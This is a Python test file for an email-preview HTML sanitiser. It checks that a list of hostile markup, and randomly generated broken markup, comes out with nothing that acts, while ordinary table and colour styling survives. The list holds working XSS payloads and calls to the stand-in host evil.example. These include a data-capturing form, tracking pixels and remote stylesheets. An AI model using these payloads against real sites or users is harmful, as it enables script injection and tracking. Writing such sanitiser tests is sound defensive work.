from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clawback.analysis.html import elements, parse
from clawback.preview.sanitised import TAGS, sanitised

HARMLESS_TAGS = TAGS | {"html", "head", "body"}
HARMLESS_ATTRIBUTES = {"alt", "bgcolor", "dir", "height", "lang", "style", "title", "width"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<form action='https://evil.example'><input name=p></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'><img src=pixel.gif>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url('https://evil.example/p.gif')\">x</div>",
    "<div style='background-color:\\75rl(https://evil.example)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<table background='https://evil.example/p.gif'><tr><td>x</td></tr></table>",
    "<img srcset='https://evil.example/p.gif 1x'>",
    "<video poster='https://evil.example/p.gif'></video>",
    "<object data='https://evil.example/x.swf'></object>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x&gt;'>",
    "<template><script>alert(1)</script></template>",
    "<p style='position:fixed;top:0;left:0;width:100%'>cover</p>",
]


@pytest.mark.parametrize("markup", HOSTILE)
def test_nothing_acts(markup):
    """No script, no address and no style that could fetch or cover survives."""
    harmless = sanitised(f"<p>before</p>{markup}")
    assert _acting(harmless) == []
    assert "before" in harmless


@given(st.text(alphabet="<>/='\" abhimgscriptonerrorstyle:url()&;#x0", max_size=300))
def test_whatever_the_markup_nothing_acts(markup):
    """However tags are broken, a browser's reading of the result finds nothing that acts."""
    assert _acting(sanitised(markup)) == []


def _acting(markup: str) -> list[str]:
    """What a browser would see in the markup that it should not."""
    found = []
    for element in elements(parse(markup), "*"):
        found += [element.tag] if element.tag not in HARMLESS_TAGS else []
        found += [name for name in element.node.attrs if name not in HARMLESS_ATTRIBUTES]
        style = element.attribute("style").lower()
        found += [word for word in ("url", "expression", "position", "\\") if word in style]
    return found


def test_a_mail_looks_like_itself():
    """Tables, colours and sizes stay; a picture leaves its words."""
    markup = (
        "<table width=600 bgcolor='#eee'><tr><td style='color: red; padding: 4px'>Pay"
        "<img src='https://a.example/p.png' alt='our logo' width=10></td></tr></table>"
    )
    harmless = sanitised(markup)
    for kept in ('width="600"', 'bgcolor="#eee"', "color:red", "padding:4px", 'alt="our logo"'):
        assert kept in harmless
    assert "a.example" not in harmless


def test_nothing_is_nothing():
    """A mail without HTML has no HTML to show."""
    assert sanitised(" \n") == ""
